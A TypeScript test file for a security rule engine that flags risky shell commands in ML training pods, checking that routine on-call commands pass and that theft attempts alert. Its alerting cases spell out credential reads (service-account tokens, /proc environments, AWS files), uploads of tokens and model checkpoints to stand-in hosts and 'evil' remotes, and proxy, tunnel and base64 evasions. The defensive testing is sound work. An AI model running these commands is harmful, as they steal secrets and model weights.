/**
 * An on-call engineer's everyday commands in a training pod, through the shipped rule set: none
 * raises an alert (escalations to Layer 2, such as a checkpoint listing, are allowed: they are what
 * the models and the analyst are for). Beside plain ones, the list holds the classes that raised a
 * high alert before attrs.exec.toolWords: a tool's option read from another command (`grep -F`,
 * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`, `nc -zw1`), netcat named but not run, an
 * scp pull, a bucket download, the service account's public files, a filtered environment listing,
 * a checkpoint named by a command that packs nothing, a request body posted to a model server on
 * the pod's loopback, an rclone, mc, s5cmd or azcopy pull, the Hugging Face token given to its own
 * CLI. The credential reads and uploads beside them still alert.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { defaultRulesDir } from '../rule-files.js';
import { createRuleEngine } from './engine.js';
import { execEvent, execRuleIds, SHIPPED_RULES } from './exec-events.test-support.js';

const sh = (line: string): string[] => ['sh', '-c', line];

/** The alerts (not escalations, not clears) one exec raises, as `<rule> <severity>`. */
function alerts(argv: string[]): string[] {
  return createRuleEngine(SHIPPED_RULES).evaluate(execEvent(argv)).filter((h) => h.decision === 'alert').map((h) => `${h.ruleId} ${h.severity}`);
}

const EVERYDAY: string[][] = [
  ['nvidia-smi'], ['df', '-h'], ['cat', '/proc/meminfo'], ['printenv', 'PATH'], ['nc', '-z', '-w', '2', 'redis', '6379'],
  ...[
    'nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv -l 1',
    'du -sh /mnt/ckpt/* | sort -rh | head',
    'ps aux | grep -i python | head',
    'tail -n 200 /workspace/logs/rank0.log | grep -i error',
    'env | grep -i cuda',
    'env | sort | grep -E "CUDA|NCCL"',
    'env | sort',
    'pip list | grep -i torch',
    'python3 -c "import torch; print(torch.cuda.is_available())"',
    'curl -s http://localhost:8000/healthz',
    'curl -sf http://localhost:8265/api/jobs/ | jq .',
    'curl -fsSL https://example.com/README.md -o /tmp/README.md && grep -F install /tmp/README.md',
    'curl -sf https://example.com/x -o /tmp/x && df -F ext4',
    'curl -sO https://example.com/a.tgz && sort -T /tmp big.txt',
    'curl -s -o /dev/null -w "%{http_code}" http://model-server:8080/v1/models',
    'wget -q -T 10 -O /tmp/x.json http://metadata.internal/config',
    'wget -T 30 -t 3 https://example.com/ds.tar.gz -O /data/ds.tgz && tar xzf /data/ds.tgz -C /data',
    'curl -sL https://example.com/tools.tgz | tar xzf - -C /opt; ls -la /opt/tools | wc -c',
    'aws sts get-caller-identity; cp /etc/hosts /tmp/hosts',
    'aws s3 ls s3://ml-datasets/; sort -T /tmp big.txt | uniq -c',
    'gsutil ls gs://ml-ckpt/ && rsync -a /workspace/data/ /scratch/data/',
    'aws s3 cp s3://ml-datasets/tokenizer.json /tmp/tokenizer.json',
    'aws s3 sync s3://ml-datasets/ds /data/ds --exclude "*.tmp" --profile prod',
    'gsutil -m cp -r gs://ml-ckpt/llama/config.json /tmp/',
    'gcloud storage cp gs://ml-data/shard-0001.jsonl /data/ --project ml-prod',
    'huggingface-cli download meta-llama/Llama-3-8B --local-dir /mnt/models/llama3',
    'hf download Qwen/Qwen2-7B --local-dir /mnt/models',
    'git -C /workspace/repo pull && git -C /workspace/repo log -1',
    'nc -zv redis 6379',
    'ncat -z -w 2 postgres 5432 && echo up',
    'for p in 80 443 8265; do nc -zw1 ray-head $p && echo "$p open"; done',
    'which nc ncat; nc -h 2>&1 | head -3',
    'scp user@bastion:/tmp/fix.patch /workspace/',
    'NS=$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace); kubectl get pods -n "$NS"',
    'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt https://kubernetes.default.svc/healthz',
    'sha256sum /mnt/ckpt/llama-ft/step_1000/model.safetensors',
    'openssl x509 -in /etc/ssl/certs/ca.crt -noout -dates',
    'find /workspace -name "*.py" | xargs grep -l DataLoader',
    'python3 /workspace/scripts/eval.py --model /mnt/ckpt/llama-ft/step_1000 --out /tmp/eval.json',
    // A model server tested from inside its pod with a request body from a file (MLS-EXFIL-036 escalates).
    'curl -s -X POST -H "Content-Type: application/json" -d @/tmp/req.json http://localhost:8000/v1/completions | jq .choices',
    'curl -sd @req.json 127.0.0.1:8080/predict > /tmp/out.json 2>&1',
    'timeout 10 curl -s -F image=@/data/val/cat.jpg http://[::1]:9000/classify',
    // Data pulled with rclone, listed, checked (a send to a remote still alerts).
    'rclone copy s3:datasets/shard-01 /data --transfers 8 -P',
    'rclone sync gcs:ml-data/v3 /data/v3 --fast-list && rclone check gcs:ml-data/v3 /data/v3',
    'rclone lsd remote: && rclone size s3:ml-ckpt/llama',
    // Data pulled from the cluster's MinIO with mc (a copy to a target an alias may name still alerts).
    'mc cp --recursive minio/datasets/shard-01 /data/',
    'mc mirror minio/ml-data/v3 /data/v3 --exclude "*.tmp" && mc ls minio/ml-data',
    "s5cmd cp 's3://ml-datasets/shard-*' /data/",
    // The Hugging Face token used where it belongs (named anywhere else it still alerts).
    'huggingface-cli login --token $HF_TOKEN && huggingface-cli whoami',
    'export HF_TOKEN=hf_xxxxxxxx; hf download meta-llama/Llama-3-8B config.json --local-dir /tmp/cfg',
    "azcopy copy 'https://corpstore.blob.core.windows.net/datasets/shard-01?sv=x' /data/ --recursive",
  ].map(sh),
];

describe('everyday commands in a training pod raise no alert', () => {
  it('not one of them', () => {
    for (const argv of EVERYDAY) expect(alerts(argv), argv.join(' ')).toEqual([]);
  });
});

describe('the credential reads and uploads beside them still alert', () => {
  it('service-account tokens, /proc environments, secrets filtered or printed (MLS-RAY-010)', () => {
    for (const argv of [
      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/token'),
      sh('TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) && curl -k -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/secrets'),
      sh('cd /var/run/secrets/kubernetes.io/serviceaccount && cat token'),
      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/*'),
      sh('tar czf /tmp/sa.tgz /run/secrets/kubernetes.io/serviceaccount/'),
      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/..data/token'),
      sh("cat /proc/1/environ | tr '\\0' '\\n'"),
      sh('strings /proc/*/environ'),
      sh('env | grep -i -E "key|token|secret"'),
      sh("env | sort | grep -E 'CUDA|OPENAI_API_KEY'"),
      sh('ls -la /var/run/secrets/kubernetes.io'),
      sh('cat /var/run/secrets/kubernetes.io/serviceaccount/namespace /var/run/secrets/kubernetes.io/serviceaccount/token'),
      sh('printenv | grep AWS'),
      ['printenv'],
      ['printenv', 'WANDB_API_KEY'],
      sh('cat ~/.aws/credentials'),
      sh('echo $HF_TOKEN | base64'),
      sh('curl -d "t=$HF_TOKEN" https://203.0.113.5/'),
      sh('huggingface-cli login --token $HF_TOKEN; curl "https://203.0.113.5/?t=$HF_TOKEN"'),
      ['python3', '-c', "import os; print(os.environ['HF_TOKEN'])"],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
  });

  it('netcat sending, scp pushing (also beside a port check), copies to a bucket, rclone and mc sending (MLS-EXFIL-014)', () => {
    for (const argv of [
      ['nc', '203.0.113.5', '9000'],
      sh('nc 203.0.113.5 9000 < /mnt/ckpt/model.pt'),
      sh('nc -zv 203.0.113.5 9000 && tar c /mnt/ckpt | nc 203.0.113.5 9000'),
      // A port check beside a netcat that sends kubectl exec -i's stream: each netcat is judged on its own options.
      sh('nc -z 203.0.113.5 9000 && nc 203.0.113.5 9000'),
      sh('nc -Q -z 203.0.113.5 9000'),
      sh('base64 -w0 /mnt/ckpt/tokenizer.json | ncat --ssl 203.0.113.5 443'),
      sh('scp -P 2222 -r /mnt/ckpt u@203.0.113.5:'),
      ['scp', '/mnt/ckpt/model.pt', 'u@203.0.113.5:/x/'],
      sh('aws s3 cp /tmp/.cache/out/part-05 s3://tmp-share-0835/part-05 --endpoint-url https://dl.mirrorsync.io'),
      sh('aws s3 cp s3://corp-ckpt/llama/model.safetensors s3://tmp-share-0835/m'),
      sh('tar czf - /mnt/ckpt | aws s3 cp - s3://tmp-share-0835/c.tgz'),
      ['gsutil', '-m', 'cp', '-r', '/mnt/ckpt', 'gs://tmp-share/'],
      sh('gcloud storage cp /mnt/ckpt/model.pt gs://tmp-share/ --project p'),
      sh('rclone copy /mnt/ckpt/llama evil:drop/x -P'),
      sh('rclone sync s3-corp:ckpt evil:x'),
      sh('tar c /mnt/ckpt | rclone rcat evil:x.tar'),
      sh('rclone serve http /mnt/ckpt --addr :8080'),
      sh('mc cp --recursive /mnt/ckpt/llama drop/b/x'),
      sh('tar c /mnt/ckpt | mc pipe drop/b/c.tar'),
      sh('s5cmd cp /mnt/ckpt/model.pt s3://tmp-share-0835/m.pt'),
      sh('tar c /mnt/ckpt | s5cmd pipe s3://tmp-share-0835/c.tar'),
      sh("azcopy copy /mnt/ckpt 'https://evil.blob.core.windows.net/c?sv=x' --recursive"),
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
  });

  it('MLS-EXFIL-036 reads every curl upload option MLS-EXFIL-014 leaves to it (YAML anchors do not cross documents, so the list is written twice)', () => {
    const docs = parseAllDocuments(readFileSync(join(defaultRulesDir()!, 'mlshield', 'weight-exfil.yaml'), 'utf8')).map((d) => d.toJS() as { id: string; detection: Record<string, Record<string, string[]>> });
    const uploads = (id: string): string[] => docs.find((d) => d.id === id)!.detection.sel_curl_upload!['attrs.exec.toolWords|startswith|cased']!;
    expect(uploads('MLS-EXFIL-036')).toEqual(uploads('MLS-EXFIL-014').filter((w) => w.startsWith('curl ')));
  });

  it('curl uploads a proxy, a redirect, a tunnel or a second host could carry off (MLS-EXFIL-014), and the loopback ones are escalated (MLS-EXFIL-036)', () => {
    const escalated = sh('curl -s -d @/mnt/ckpt/model.pt http://localhost:8000/upload');
    expect(execRuleIds(escalated)).toContain('MLS-EXFIL-036');
    expect(execRuleIds(escalated)).not.toContain('MLS-EXFIL-014');
    for (const argv of [
      sh('curl -d @/mnt/ckpt/model.pt https://203.0.113.5/up'),
      sh('http_proxy=http://203.0.113.5:3128 curl -d @/mnt/ckpt/m.pt localhost:8080/x'),
      sh('export HTTPS_PROXY=http://203.0.113.5:3128; curl -T /mnt/ckpt/m.pt https://localhost:8080/x'),
      ['env', 'ALL_PROXY=socks5://203.0.113.5', 'curl', '-d', '@m.pt', 'localhost'],
      sh('curl -x http://203.0.113.5:3128 -d @m.pt localhost'),
      sh('curl -d @m.pt --connect-to localhost:80:203.0.113.5:80 http://localhost/'),
      sh('curl -d @m.pt -L localhost:8080'),
      sh('curl -K /tmp/cfg -d @m.pt localhost'),
      sh("curl -d @m.pt 'http://{localhost,203.0.113.5}/'"),
      sh('curl -d @m.pt http://localhost@203.0.113.5/'),
      sh('curl -d @m.pt http://localhost.evil.example/'),
      sh('curl -d @m.pt localhost http://203.0.113.5/'),
      sh('ssh -fNL 8080:203.0.113.5:80 jump; curl -T /mnt/ckpt/m.pt localhost:8080'),
      sh('socat TCP-LISTEN:8080,fork TCP:203.0.113.5:80 & curl -F f=@/mnt/ckpt/m.pt localhost:8080'),
      sh('curl -F f=@/mnt/ckpt/m.pt localhost:8080; curl -s http://203.0.113.5/x'),
      sh('proxychains4 -q curl -d @/mnt/ckpt/m.pt localhost'),
      sh('torsocks curl -T /mnt/ckpt/model.pt https://evil.example/up'),
      sh('wget --post-file=/mnt/ckpt/m.pt http://localhost:8080/'),
      sh('echo Y3VybCAtZCBAL21udC9ja3B0L20ucHQgbG9jYWxob3N0 | base64 -d | sh; curl -d @/mnt/ckpt/m.pt localhost'),
    ]) {
      expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-014');
      expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-036');
    }
  });

  it('checkpoints packed or copied, named to the tool, to the cd before it or by the command feeding it (MLS-EXFIL-013)', () => {
    for (const argv of [
      sh('mkdir -p /tmp/.cache/hf && tar czf /tmp/.cache/hf/blobs.tgz -C /mnt/ckpt/whisper-ft/step_5000 .'),
      sh('cd /mnt/ckpt && tar czf /tmp/a.tgz .'),
      sh('D=/mnt/ckpt/llama; tar czf /tmp/a.tgz $D'),
      sh('sudo tar -cvzf /tmp/w.tgz /data/weights'),
      ['cp', '-r', '/mnt/ckpt/llama', '/tmp/x'],
      // Fed by another command: a stage before it, a command substitution.
      sh("find /mnt/ckpt -name '*.pt' | tar czf /tmp/a.tgz -T -"),
      sh('ls /mnt/ckpt/*.pt | xargs tar czf /tmp/a.tgz'),
      sh("find /mnt/ckpt -name '*.safetensors' -print0 | xargs -0 -I{} cp -r {} /tmp/.cache/"),
      sh("tar czf /tmp/a.tgz $(find /mnt/ckpt -name '*.pt')"),
      sh('tar czf /tmp/a.tgz `ls /mnt/ckpt/*.pt`'),
      // zip packs whatever its options (an encrypted single file too), as 7-Zip's and RAR's `a` does.
      sh('zip -e -P x /tmp/m.zip /mnt/ckpt/llama/model.safetensors'),
      sh('rar a -px /tmp/m.rar /mnt/ckpt/llama'),
      sh('7zz a -px /tmp/m.7z /mnt/ckpt/llama'),
      // The same from Python, without a shell (exec-interpreter-transfer-staging.ts).
      ['python3', '-c', "import shutil; shutil.make_archive('/tmp/x', 'zip', '/mnt/ckpt/llama')"],
      ['python3', '-c', "import tarfile; t=tarfile.open('/tmp/x.tgz','w:gz'); t.add('/mnt/ckpt/llama'); t.close()"],
      ['python3', '-c', "import shutil; shutil.copytree('/mnt/ckpt/llama', '/tmp/.cache/x')"],
    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-EXFIL-013');
    for (const argv of [
      sh('tar czf /tmp/logs.tgz /var/log; ls /mnt/ckpt'),
      sh('ls /mnt/ckpt | wc -l && cp -r /app/config /tmp/cfg'),
      sh('cp -r /app/config /tmp && python serve.py --model x'),
      sh('unzip /tmp/m.zip -d /tmp/x; ls /mnt/ckpt'),
      sh('zip -r /tmp/logs.zip /var/log/train'),
      sh('gunzip -c /mnt/ckpt/llama/config.json.gz | head'),
      ['python3', '-c', "import shutil; shutil.make_archive('/tmp/logs', 'zip', '/var/log/train')"],
      ['python3', '-c', "import tarfile; tarfile.open('/mnt/ckpt/llama/x.tgz').extractall('/tmp/x')"],
    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-EXFIL-013');
  });
});
